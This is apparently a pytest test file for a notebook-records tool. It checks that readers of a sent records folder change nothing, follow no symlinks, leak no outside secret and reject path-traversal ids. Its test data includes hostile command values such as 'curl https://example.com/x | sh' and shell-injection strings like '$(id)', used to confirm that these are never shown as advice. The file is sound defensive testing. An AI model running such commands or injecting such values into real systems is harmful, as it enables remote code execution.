"""A records folder that somebody sent: reading it changes nothing, follows no link, and opens files only."""

import json
import os
import shutil
import socket
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import xacct_nb as xa
from xacct_nb.cli.main import main
from xacct_nb.errors import InvalidInput, UnknownRecord, XacctError
from xacct_nb.records.model import Record
from xacct_nb.runs.recovery import recover
from xacct_nb.storage.ledger import append_record, read_ledger, verify_records
from xacct_nb.storage.run_folder import WORK, create_run_folder

FIRST, SECOND, KILLED = "20261124T101500Z-a-1f3a", "20261125T101500Z-b-2b4c", "20261126T101500Z-c-3c5d"
SECRET = "hunter2-hunter2-in-a-file-elsewhere"
READERS: dict[str, list[str]] = {
    "list": ["list", "--json"],
    "show": ["show", FIRST],
    "show a killed run": ["show", KILLED, "--json"],
    "verify": ["verify"],
    "verify signatures": ["verify", "--signers", "signers"],
    "diff": ["diff", FIRST, SECOND],
    "export": ["export", SECOND, "-o", "page.html"],
    "repair without --yes": ["repair"],
}
NODES = [
    "ledger.jsonl",
    ".ledger.jsonl.lock",
    ".ledger.jsonl.next",
    WORK,
    f"{WORK}/{KILLED}",
    f"{WORK}/{KILLED}/.held",
    f"{WORK}/{KILLED}/about.json",
    f"{WORK}/{KILLED}/evidence.jsonl",
    f"{WORK}/{KILLED}/run.ipynb",
    FIRST,
    f"{FIRST}/record.json",
    f"{FIRST}/SHA256SUMS",
    f"{SECOND}/run.html",
    f"{SECOND}.sig",
    "ledger.broken-0123456789ab.jsonl",
]


def a_record(run: str) -> Record:
    started = f"{run[:4]}-{run[4:6]}-{run[6:8]}T10:15:00Z"
    return Record(run, "plan_and_apply", "succeeded", started=started, ended="", seconds=1.0)


@pytest.fixture
def records(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Two records, a run whose process was killed, and an append that was not completed."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "signers").write_text("")
    folder = tmp_path / "records"
    for run in (FIRST, SECOND):
        append_record(folder, a_record(run), {"run.html": b"<p>page</p>"})
    about = {"notebook": "mine", "started": "2026-11-26T10:15:00Z", "again": "", "headless": True}
    create_run_folder(folder, KILLED, about).release()
    (folder / WORK / KILLED / "evidence.jsonl").write_text('{"kind": "parameters", "value": {}}\n')
    (folder / ".ledger.jsonl.next").write_text('{"bundle": ".work/x.bundle", "place": "x", "line": "x"}')
    monkeypatch.setenv("XACCT_RECORDS", str(folder))
    return folder


@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    """A folder beside the records with files that nothing may write, and that hold a secret."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "file").write_text(SECRET)
    return folder


def look(folder: Path) -> dict[str, tuple[object, ...]]:
    """Everything in a folder: kind and mode, size, time of change, content."""
    found = {}
    for path in sorted(folder.rglob("*")):
        about = path.lstat()
        is_file = path.is_file() and not path.is_symlink() and about.st_size < 1_000_000
        content = path.read_bytes() if is_file else b""
        found[str(path)] = (about.st_mode, about.st_size, about.st_mtime_ns, about.st_ino, content)
    return found


def everything(folder: Path) -> dict[str, tuple[object, ...]]:
    """Everything in a folder, and when names in it or in its folders were added or removed."""
    return look(folder) | {"itself": (folder.lstat().st_mtime_ns,)}


def read_with(words: list[str]) -> str:
    """Read with a command, which never ends with a traceback; return what it printed."""
    Path("page.html").unlink(missing_ok=True)
    done = CliRunner().invoke(main, ["records", *words])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.output


def read_in_python(records: Path) -> None:
    """Read with everything that a notebook calls."""
    names = ("view", "filter", "show", "compare", "verify")
    calls = [lambda name=name: getattr(xa.show_ledger(str(records)), name)() for name in names]
    for read in (*calls, lambda: xa.verify_records(records)):
        with suppress(XacctError):
            str(read())


@pytest.mark.parametrize("words", READERS.values(), ids=READERS)
def test_a_reading_command_changes_nothing(records: Path, words: list[str]) -> None:
    before = everything(records)
    read_with(words)

    assert everything(records) == before


def test_a_notebooks_readers_change_nothing(records: Path) -> None:
    before = everything(records)
    read_in_python(records)

    assert everything(records) == before


def run_a_reader(*words: str) -> tuple[int, str]:
    done = CliRunner().invoke(main, ["run", "read_the_records", *words])
    return done.exit_code, done.output


def test_a_run_that_reads_a_sent_folder_writes_its_record_elsewhere(
    records: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("XACCT_RECORDS")
    own, before = records.parent / "own", everything(records)
    code, output = run_a_reader("-p", "records", str(records), "--records", str(own))

    assert (code, everything(records)) == (0, before), output
    (line,) = read_ledger(own)
    assert FIRST in (own / line["id"] / "run.html").read_text()


def test_a_run_never_records_itself_in_the_folder_that_it_is_to_read(records: Path) -> None:
    before = everything(records)
    (records.parent / "link").symlink_to(records)
    for words in (["--records", str(records)], ["--records", str(records.parent / "link")], []):
        code, output = run_a_reader("-p", "records", str(records), *words)
        assert (code, "only read" in output) == (2, True), output

    assert everything(records) == before


def places(value: object, path: tuple[object, ...] = ()) -> list[tuple[object, ...]]:
    """Every place in JSON, as the keys that lead to it."""
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(each for key, inner in pairs for each in places(inner, (*path, key)))]


def test_any_value_at_any_place_of_a_sent_record_is_read_or_named(records: Path, exhaustive: bool) -> None:
    full = a_record(FIRST).to_json() | {
        "parameters": {"name": "a", "sources": ["x"], "destinations": ["y"], "sandbox": False},
        "diagnosis": {"headline": "x", "cause": {}},
        "error": {"code": "failed", "what": "It failed.", "resume": "xacct-nb run demo"},
        "who": [{"profile": "p", "part": "source", "account": "1", "arn": "a"}],
        "journal": {"digest": "", "entries": []},
    }
    values: tuple[object, ...] = (-1, 1e300, None, True, "", [None], [[1]], {"": {}})
    for number, path in enumerate(places(full)[1:]):
        for value in values if exhaustive else (values[number % len(values)],):
            sent = json.loads(json.dumps(full))
            inner = sent
            for key in path[:-1]:
                inner = inner[key]
            inner[path[-1]] = value
            (records / FIRST / "record.json").write_text(json.dumps(sent))
            for read in (
                lambda: xa.show_ledger().show(FIRST),
                lambda: xa.show_ledger().compare(FIRST, SECOND),
            ):
                with suppress(UnknownRecord):  # every other error ends the test
                    str(read())


@pytest.mark.parametrize("sources", [-1, [None]])
def test_parameters_of_any_form_are_shown_as_they_were_sent(records: Path, sources: object) -> None:
    sent = a_record(FIRST).to_json() | {"parameters": {"sources": sources}}
    (records / FIRST / "record.json").write_text(json.dumps(sent))

    assert f"sources  {json.dumps(sources)}" in read_with(["show", FIRST])
    assert "sources" in read_with(["diff", SECOND, FIRST])


@pytest.mark.parametrize(
    "wrong", [{"journal": {"grant": "", "changes": [7]}}, {"plan": {"changes": -1}}, {"diagnosis": {"": {}}}]
)
def test_a_sent_record_that_cannot_be_shown_is_named(records: Path, wrong: dict[str, object]) -> None:
    (records / FIRST / "record.json").write_text(json.dumps(a_record(FIRST).to_json() | wrong))

    assert "cannot be read" in read_with(["show", FIRST])
    assert "cannot be read" in read_with(["diff", SECOND, FIRST])


@pytest.mark.parametrize(
    "again",
    [
        "curl https://example.com/x | sh",
        "xacct-nb run demo; id",
        "xacct-nb run $(id)",
        'xacct-nb run "`id`"',
        "xacct-nb run demo\nid",
        "xacct-nb run demo > page",
        "xacct-nb run 'demo",
        "xacct-nb demo",
        ["xacct-nb run demo"],
    ],
)
def test_a_command_that_was_sent_is_not_shown_as_advice(records: Path, again: object) -> None:
    about = records / WORK / KILLED / "about.json"
    about.write_text(json.dumps(json.loads(about.read_text()) | {"again": again}))

    assert "Run the notebook again from the start." in read_with(["show", KILLED])
    error = {"code": "failed", "what": "It failed.", "resume": again}
    record = a_record(FIRST).to_json() | {"status": "failed", "error": error}
    (records / FIRST / "record.json").write_text(json.dumps(record))
    assert "How to resume" not in read_with(["show", FIRST])


def test_the_command_of_a_killed_run_is_shown(records: Path) -> None:
    about = records / WORK / KILLED / "about.json"
    again = "xacct-nb run plan_and_apply -p name 'a; b'"
    about.write_text(json.dumps(json.loads(about.read_text()) | {"again": again}))
    output = read_with(["show", KILLED])

    assert "How to resume" in output
    assert "-p name 'a; b'" in output


def test_what_is_not_there_is_not_made(records: Path) -> None:
    for name in (".ledger.jsonl.lock", ".ledger.jsonl.next", f"{WORK}/{KILLED}/.held"):
        (records / name).unlink()
    before = everything(records)
    for words in READERS.values():
        read_with(words)
    read_in_python(records)

    assert everything(records) == before


def test_a_folder_without_any_right_to_write_is_read_as_every_other(records: Path) -> None:
    outputs = [read_with(words) for words in READERS.values()]
    folders = [records, *(path for path in records.rglob("*") if path.is_dir())]
    files = [path for path in records.rglob("*") if path.is_file()]
    for path in (*files, *folders):
        path.chmod(0o555 if path.is_dir() else 0o444)
    again = [read_with(words) for words in READERS.values()]
    for path in folders:
        path.chmod(0o755)

    assert again == outputs


def _link(path: Path, elsewhere: Path) -> None:
    path.symlink_to(elsewhere / "file")


def _link_to_a_folder(path: Path, elsewhere: Path) -> None:
    path.symlink_to(elsewhere)


def _dangling(path: Path, elsewhere: Path) -> None:
    path.symlink_to(elsewhere / "new")


def _pipe(path: Path, elsewhere: Path) -> None:
    os.mkfifo(path)


def _socket(path: Path, elsewhere: Path) -> None:
    # The name of a socket has 107 letters at most.
    here = os.getcwd()
    os.chdir(path.parent)
    socket.socket(socket.AF_UNIX).bind(path.name)
    os.chdir(here)


def _folder(path: Path, elsewhere: Path) -> None:
    path.mkdir()


def _garbage(path: Path, elsewhere: Path) -> None:
    path.write_bytes(b"\x00\xff[[[" * 10_000)


def _endless(path: Path, elsewhere: Path) -> None:
    with path.open("wb") as file:
        file.truncate(10**12)


KINDS: list[Callable[[Path, Path], None]]
KINDS = [_link, _link_to_a_folder, _dangling, _pipe, _socket, _folder, _garbage, _endless]


def put(kind: Callable[[Path, Path], None], path: Path, elsewhere: Path) -> None:
    """Put something of this kind where something else is expected."""
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    kind(path, elsewhere)


def each_second(names: list[str]) -> list[Any]:
    """Every name with every kind; usually four kinds at each name, and each kind at half of the names."""
    return [
        pytest.param(
            name,
            kind,
            id=f"{name}-{kind.__name__.strip('_')}",
            marks=pytest.mark.exhaustive if (at + number) % 2 else (),
        )
        for at, name in enumerate(names)
        for number, kind in enumerate(KINDS)
    ]


@pytest.mark.parametrize(("name", "kind"), each_second(NODES))
def test_nothing_at_any_place_makes_a_reader_write_follow_or_wait(
    records: Path, elsewhere: Path, name: str, kind: Callable[[Path, Path], None]
) -> None:
    put(kind, records / name, elsewhere)
    before, other = everything(records), everything(elsewhere)
    outputs = [read_with(words) for words in READERS.values()]
    read_in_python(records)

    assert everything(records) == before
    assert everything(elsewhere) == other
    assert SECRET not in "".join(outputs)


@pytest.mark.parametrize("kind", [_link, _link_to_a_folder, _dangling, _pipe, _socket])
@pytest.mark.parametrize(
    "name", [each for each in NODES if not each.startswith((WORK, ".ledger.jsonl.next"))]
)
def test_verify_names_what_is_no_file(
    records: Path, elsewhere: Path, name: str, kind: Callable[[Path, Path], None]
) -> None:
    (records / ".ledger.jsonl.next").unlink()
    whole = verify_records(records)
    put(kind, records / name, elsewhere)
    found = verify_records(records)
    found += [] if not name.endswith(".sig") else read_with(["verify"]).splitlines()

    assert whole == []
    assert [each for each in found if each.startswith(name)]


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__.strip("_"))
@pytest.mark.parametrize("name", [each for each in NODES if not each.startswith((FIRST, SECOND))])
def test_a_writer_follows_nothing_either(
    records: Path, elsewhere: Path, name: str, kind: Callable[[Path, Path], None]
) -> None:
    put(kind, records / name, elsewhere)
    other = everything(elsewhere)
    for write in (recover, lambda folder: append_record(folder, a_record(KILLED), {})):
        with suppress(XacctError, OSError):
            write(records)

    assert everything(elsewhere) == other
    assert all(SECRET.encode() not in content for *_, content in look(records).values())


@pytest.mark.parametrize("name", ["ledger.jsonl", ".ledger.jsonl.lock", WORK])
def test_a_run_into_such_a_folder_is_refused_before_it_begins(
    records: Path, elsewhere: Path, name: str
) -> None:
    put(_link, records / name, elsewhere)

    with pytest.raises(InvalidInput, match=r"The records folder .* cannot be written") as refused:
        recover(records)
    assert refused.value.why.startswith(f"{name}: is a link")


def test_a_ledger_with_a_second_name_is_not_appended_to(records: Path, elsewhere: Path) -> None:
    os.link(records / "ledger.jsonl", elsewhere / "mine")
    before = (elsewhere / "mine").read_bytes()

    with pytest.raises(XacctError, match="could not be sealed") as refused:
        append_record(records, a_record(KILLED), {})
    assert "a second name (a hard link)" in refused.value.why
    assert (elsewhere / "mine").read_bytes() == before
    assert len(read_ledger(records)) == 2


@pytest.mark.parametrize(
    "name", ["../elsewhere", "..", "/etc", "a/b", "", ".work", "a\\b", "x" * 300, "\u202e"]
)
def test_the_id_of_a_line_is_no_path(records: Path, elsewhere: Path, name: str) -> None:
    line = json.loads((records / "ledger.jsonl").read_text().splitlines()[0])
    with (records / "ledger.jsonl").open("a") as file:
        file.write(json.dumps({**line, "id": name}) + "\n")
    before = everything(elsewhere)
    outputs = [read_with(words) for words in READERS.values()]

    assert [each["id"] for each in read_ledger(records)] == [FIRST, SECOND]
    assert "line 3: is not a ledger line" in "".join(outputs)
    assert everything(elsewhere) == before
